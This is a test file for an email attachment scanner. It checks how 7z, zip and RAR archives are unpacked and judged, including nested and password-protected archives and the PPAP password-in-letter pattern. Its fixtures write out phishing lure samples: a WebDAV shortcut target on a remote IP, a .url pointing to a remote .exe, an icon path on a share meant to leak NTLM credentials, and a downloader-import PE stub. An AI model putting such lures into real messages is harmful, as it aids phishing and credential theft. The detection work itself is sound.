import { test } from 'node:test';
import assert from 'node:assert/strict';
import { defaultConfig } from '../../config/load.js';
import { messageWith } from '../../files/test-support/message.js';
import { buildPe } from '../../files/test-support/pe-builder.js';
import { buildRar4, buildRar4HiddenHeaders, buildRar5 } from '../../files/test-support/rar-builder.js';
import { SEVEN_ZIP_BOOKMARK, SEVEN_ZIP_BOOKMARK_LZMA, SEVEN_ZIP_BOOKMARK_URL, SEVEN_ZIP_EXE, SEVEN_ZIP_LINES, SEVEN_ZIP_SHORTCUT_SCRIPT } from '../../files/test-support/sevenzip-fixtures.js';
import { buildZip } from '../../files/test-support/zip-builder.js';
import { scoreFindings } from '../../score/score.js';
import { buildScoreTable, CATALOGUE } from '../../score/table.js';
import { testServices } from '../../test-support/services.js';
import { attachmentsFamily } from './index.js';

/**
 * Issue 17 (session 15): what an archive holds is read like an attachment — the names inside a 7z as 7-Zip writes it
 * (LZMA-compressed header), the files of its LZMA/LZMA2 blocks, and internet shortcuts at any depth judged by what they
 * open (a bookmark is a shared page, a `file://…@SSL` WebDAV target runs something).
 */
const NOW = new Date('2025-06-02T08:00:00Z');
const config = defaultConfig();
const table = buildScoreTable(CATALOGUE, config.thresholds);
const shortcut = (target: string): Buffer => Buffer.from(`[InternetShortcut]\r\nURL=${target}\r\nIconIndex=1\r\n`);
const WEBDAV = 'file://185.220.101.7@SSL/DavWWWRoot/Rechnung_2291.pdf.lnk';

const RAR_PE = buildPe({ imports: { 'kernel32.dll': ['ExitProcess'], 'urlmon.dll': ['URLDownloadToFileA'] } });
const DOCX = buildZip([{ name: 'word/document.xml', data: '<w:document><w:body><w:p><w:r><w:t>Angebot</w:t></w:r></w:p></w:body></w:document>' }]);
const BOOKMARK = 'https://www.kessler-handel.de/projekte/sommerfest';
const PW = 'Angebot-2291';
const LETTER = `Anbei das Angebot.\nDas Passwort lautet: ${PW}\nViele Grüße`;

/** A RAR attachment as the session-17 rows send it. */
const rar = (content: Buffer) => [{ filename: 'Angebot.rar', content }];

const rows: { name: string; files: { filename: string; content: Uint8Array }[]; text?: string; expect: string[]; forbid: string[]; evidence?: RegExp; urls?: string[]; verdict?: string; notVerdict?: string }[] = [
  { name: 'default 7z holding a .pdf.exe', files: [{ filename: 'Fattura_2291.7z', content: SEVEN_ZIP_EXE }], expect: ['ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_DOUBLE_EXTENSION', 'ATTACH_EXECUTABLE_NAME'], forbid: ['ATTACH_ARCHIVE_MALFORMED', 'ATTACH_ARCHIVE_LIMIT_BYTES'], evidence: /Fattura_2291\.7z > Fattura_2291\.pdf\.exe/, verdict: 'malware' },
  { name: 'default 7z holding a WebDAV shortcut and a script', files: [{ filename: 'Rechnung.7z', content: SEVEN_ZIP_SHORTCUT_SCRIPT }], expect: ['ATTACH_LNK', 'ATTACH_SCRIPT', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], forbid: ['ATTACH_ARCHIVE_MALFORMED'], evidence: /Rechnung_2291\.url: \.url shortcut opening "file:\/\/185\.220\.101\.7@SSL/, verdict: 'malware' },
  { name: 'default 7z in a zip (nested): the program is seen', files: [{ filename: 'Documents.zip', content: buildZip([{ name: 'Fattura_2291.7z', data: SEVEN_ZIP_EXE }]) }], expect: ['ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_EXECUTABLE_NAME'], forbid: [], evidence: /Documents\.zip > Fattura_2291\.7z > Fattura_2291\.pdf\.exe/, verdict: 'malware' },
  { name: 'zip holding a WebDAV .url', files: [{ filename: 'Factuur.zip', content: buildZip([{ name: 'Factuur_2291.url', data: shortcut(WEBDAV) }]) }], expect: ['ATTACH_LNK', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], forbid: [], evidence: /Factuur_2291\.url: \.url shortcut opening "file:/, verdict: 'malware' },
  { name: 'zip holding a .url to a program over https', files: [{ filename: 'Invoice.zip', content: buildZip([{ name: 'Invoice.url', data: shortcut('https://cdn-docs.top/d/Invoice_2291.exe') }]) }], expect: ['ATTACH_LNK'], forbid: [], verdict: 'malware' },
  { name: 'zip holding a .url whose icon is on a share (NTLM leak)', files: [{ filename: 'Scan.zip', content: buildZip([{ name: 'Scan.url', data: Buffer.from('[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\198.51.100.7\\icons\\pdf.ico\r\n') }]) }], expect: ['ATTACH_LNK'], forbid: [] },
  { name: 'zip holding a binary .lnk named .url', files: [{ filename: 'Scan.zip', content: buildZip([{ name: 'Scan.url', data: Buffer.from('4c0000000114020000000000c000000000000046', 'hex') }]) }], expect: ['ATTACH_LNK'], forbid: [] },
  { name: 'zip of a bookmark and minutes: a shared page, not a shortcut lure', files: [{ filename: 'Sommerfest.zip', content: buildZip([{ name: 'Fotos.url', data: shortcut(SEVEN_ZIP_BOOKMARK_URL) }, { name: 'Protokoll.txt', data: 'Protokoll der Sitzung.\n' }]) }], expect: [], forbid: ['ATTACH_LNK', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], urls: [SEVEN_ZIP_BOOKMARK_URL], verdict: 'clean' },
  { name: 'default 7z of a bookmark and minutes (LZMA2)', files: [{ filename: 'Sommerfest.7z', content: SEVEN_ZIP_BOOKMARK }], expect: [], forbid: ['ATTACH_LNK', 'ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_ARCHIVE_MALFORMED'], urls: [SEVEN_ZIP_BOOKMARK_URL], verdict: 'clean' },
  { name: '7z of a bookmark and minutes (LZMA)', files: [{ filename: 'Sommerfest.7z', content: SEVEN_ZIP_BOOKMARK_LZMA }], expect: [], forbid: ['ATTACH_LNK', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], urls: [SEVEN_ZIP_BOOKMARK_URL], verdict: 'clean' },
  { name: '7z of a text file and minutes (-mx9)', files: [{ filename: 'Zeilen.7z', content: SEVEN_ZIP_LINES }], expect: [], forbid: ['ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_ARCHIVE_MALFORMED', 'ATTACH_ARCHIVE_LIMIT_BYTES'], verdict: 'clean' },
  { name: 'a program in a zip is still one next to a bookmark', files: [{ filename: 'Mix.zip', content: buildZip([{ name: 'Fotos.url', data: shortcut(SEVEN_ZIP_BOOKMARK_URL) }, { name: 'setup.exe', data: buildPe() }]) }], expect: ['ATTACH_EXECUTABLE', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], forbid: ['ATTACH_LNK'], verdict: 'malware' },
  // Session 17: what a RAR holds (test-support/rar-builder, checked with RARLAB's unrar). Stored entries are analysed by content;
  // RAR 5 headers hidden with `-hp` open with the letter's password; a PPAP archive (a Word file, the password in the letter) is
  // not "encrypted" once the archive's check value confirms that password: compressed content is listed only, encrypted or not.
  { name: 'RAR: stored RAR 5: a program named .pdf is read as one', files: rar(buildRar5([{ name: 'Rechnung_2291.pdf', data: RAR_PE }])), expect: ['ATTACH_EXECUTABLE', 'ATTACH_TYPE_MISMATCH', 'ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_PE_SUSPICIOUS_IMPORTS'], forbid: ['ATTACH_ARCHIVE_MALFORMED'], evidence: /Angebot\.rar > Rechnung_2291\.pdf/, verdict: 'malware' },
  { name: 'RAR: stored RAR 4: a program named .pdf is read as one', files: rar(buildRar4([{ name: 'Rechnung_2291.pdf', data: RAR_PE }])), expect: ['ATTACH_EXECUTABLE', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], forbid: ['ATTACH_ARCHIVE_MALFORMED'], verdict: 'malware' },
  { name: 'RAR: stored RAR 5: a WebDAV .url', files: rar(buildRar5([{ name: 'Rechnung_2291.url', data: shortcut(WEBDAV) }])), expect: ['ATTACH_LNK', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], forbid: [], evidence: /\.url shortcut opening "file:\/\/185\.220\.101\.7@SSL/, verdict: 'malware' },
  { name: 'RAR: stored RAR 5: a bookmark is a shared page', files: rar(buildRar5([{ name: 'Projekt.url', data: `[InternetShortcut]\r\nURL=${BOOKMARK}\r\n` }, { name: 'Protokoll.txt', data: 'Protokoll.\n' }])), expect: [], forbid: ['ATTACH_LNK', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], urls: [BOOKMARK], verdict: 'clean' },
  { name: 'RAR: compressed RAR 5: a bookmark stays a shortcut by name (content not decoded)', files: rar(buildRar5([{ name: 'Projekt.url', data: 'x', method: 3 }])), expect: ['ATTACH_LNK'], forbid: [] },
  { name: 'RAR: -hp RAR 5, the password in the letter: the compressed program inside is named', files: rar(buildRar5([{ name: 'Angebot.pdf.exe', data: RAR_PE, method: 3 }], { password: PW, encryptHeaders: true })), text: LETTER, expect: ['ATTACH_ARCHIVE_WITH_DANGEROUS', 'ATTACH_EXECUTABLE_NAME', 'ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: ['ATTACH_ARCHIVE_HEADERS_ENCRYPTED'], evidence: /"Angebot-2291" opens Angebot\.rar/, verdict: 'malware' },
  { name: 'RAR: -hp RAR 5, the password in the letter: a stored program named .pdf is decrypted and read', files: rar(buildRar5([{ name: 'Angebot.pdf', data: RAR_PE }], { password: PW, encryptHeaders: true })), text: LETTER, expect: ['ATTACH_EXECUTABLE', 'ATTACH_TYPE_MISMATCH', 'ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: ['ATTACH_ARCHIVE_ENCRYPTED', 'ATTACH_ARCHIVE_HEADERS_ENCRYPTED'], verdict: 'malware' },
  // Session 23: headers no password opened hide the entries' content too — an encrypted archive, as a 7z with encrypted names is.
  { name: 'RAR: -hp RAR 4 (headers not decrypted here): an encrypted archive with hidden names, malware', files: rar(buildRar4HiddenHeaders()), text: 'Anbei das Angebot.', expect: ['ATTACH_ARCHIVE_HEADERS_ENCRYPTED', 'ATTACH_ARCHIVE_ENCRYPTED'], forbid: ['ATTACH_ARCHIVE_PASSWORD_IN_BODY'], verdict: 'malware' },
  { name: 'RAR: -hp RAR 4, a password in the letter it cannot be tried with: encrypted, the password said', files: rar(buildRar4HiddenHeaders()), text: LETTER, expect: ['ATTACH_ARCHIVE_HEADERS_ENCRYPTED', 'ATTACH_ARCHIVE_ENCRYPTED', 'ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: [], verdict: 'malware' },
  { name: 'RAR: -hp RAR 5 without the password: names hidden, an encrypted archive', files: rar(buildRar5([{ name: 'Angebot.pdf', data: RAR_PE }], { password: PW, encryptHeaders: true })), text: 'Anbei das Angebot.', expect: ['ATTACH_ARCHIVE_HEADERS_ENCRYPTED', 'ATTACH_ARCHIVE_ENCRYPTED'], forbid: ['ATTACH_EXECUTABLE', 'ATTACH_ARCHIVE_PASSWORD_IN_BODY'] },
  { name: 'RAR: -hp RAR 5, a wrong password in the letter: names hidden', files: rar(buildRar5([{ name: 'Angebot.pdf', data: RAR_PE }], { password: PW, encryptHeaders: true })), text: 'Anbei das Angebot.\nDas Passwort lautet: Falsch-1234', expect: ['ATTACH_ARCHIVE_HEADERS_ENCRYPTED'], forbid: ['ATTACH_EXECUTABLE'] },
  { name: 'RAR: -p RAR 5 (names shown), the password in the letter: a stored program named .pdf is decrypted', files: rar(buildRar5([{ name: 'Angebot.pdf', data: RAR_PE }], { password: PW })), text: LETTER, expect: ['ATTACH_EXECUTABLE', 'ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: ['ATTACH_ARCHIVE_ENCRYPTED'], verdict: 'malware' },
  { name: 'RAR: PPAP: -p RAR 5 of a compressed Word file, the password confirmed: not "encrypted"', files: rar(buildRar5([{ name: 'Angebot.docx', data: DOCX, method: 3 }], { password: PW })), text: LETTER, expect: ['ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: ['ATTACH_ARCHIVE_ENCRYPTED', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], evidence: /"Angebot-2291" opens Angebot\.rar/, notVerdict: 'malware' },
  { name: 'RAR: PPAP: -hp RAR 5 of a stored Word file: opened, read, not "encrypted"', files: rar(buildRar5([{ name: 'Angebot.docx', data: DOCX }], { password: PW, encryptHeaders: true })), text: LETTER, expect: ['ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: ['ATTACH_ARCHIVE_ENCRYPTED', 'ATTACH_ARCHIVE_HEADERS_ENCRYPTED', 'ATTACH_ARCHIVE_WITH_DANGEROUS'], notVerdict: 'malware' },
  { name: 'RAR: -p RAR 5 of a Word file, a wrong password in the letter: still encrypted', files: rar(buildRar5([{ name: 'Angebot.docx', data: DOCX, method: 3 }], { password: PW })), text: 'Anbei das Angebot.\nDas Passwort lautet: Falsch-1234', expect: ['ATTACH_ARCHIVE_ENCRYPTED', 'ATTACH_ARCHIVE_PASSWORD_IN_BODY'], forbid: [] },
  { name: 'RAR: -hp RAR 5 stretched past the limit: not tried, the limit said', files: rar(buildRar5([{ name: 'Angebot.pdf', data: 'x' }], { password: PW, encryptHeaders: true, kdfLog2: 18 })), text: LETTER, expect: ['ATTACH_ARCHIVE_HEADERS_ENCRYPTED', 'ATTACH_ARCHIVE_LIMIT_BYTES'], forbid: [], evidence: /key stretched 2\^18 times, over 2\^17/ },
];

for (const row of rows) {
  test(`archive contents: ${row.name}`, async () => {
    const [check] = attachmentsFamily.create({ config, services: testServices({ now: () => NOW }, config) });
    const out = await check!.run(messageWith(row.files, row.text ?? 'Anbei die Unterlagen.'), { now: NOW, signal: new AbortController().signal });
    const ids = new Set<string>(out.findings.map((f) => f.id));
    const evidence = out.findings.map((f) => `${f.id} ${f.evidence}`).join('\n');
    for (const id of row.expect) assert.ok(ids.has(id), `${id} expected\n${evidence}`);
    for (const id of row.forbid) assert.ok(!ids.has(id), `${id} forbidden\n${evidence}`);
    if (row.evidence) assert.match(evidence, row.evidence);
    for (const url of row.urls ?? []) assert.ok(out.iocs?.urls?.includes(url), `${url} in the IOCs`);
    const verdict = scoreFindings(out.findings, table).verdict;
    if (row.verdict) assert.equal(verdict, row.verdict, evidence);
    if (row.notVerdict) assert.notEqual(verdict, row.notVerdict, evidence);
  });
}

test('archive contents: a 7z block over the limit lists its names and says the limit was reached', async () => {
  const limited = { ...config, attachments: { ...config.attachments, limits: { ...config.attachments.limits, maxEntryBytes: 1024 } } };
  const [check] = attachmentsFamily.create({ config: limited, services: testServices({ now: () => NOW }, limited) });
  const out = await check!.run(messageWith([{ filename: 'Zeilen.7z', content: SEVEN_ZIP_LINES }]), { now: NOW, signal: new AbortController().signal });
  const evidence = out.findings.map((f) => `${f.id} ${f.evidence}`).join('\n');
  assert.match(evidence, /ATTACH_ARCHIVE_LIMIT_BYTES Zeilen\.7z: a 7z block of 58944 bytes is larger than 1024 bytes/);
});
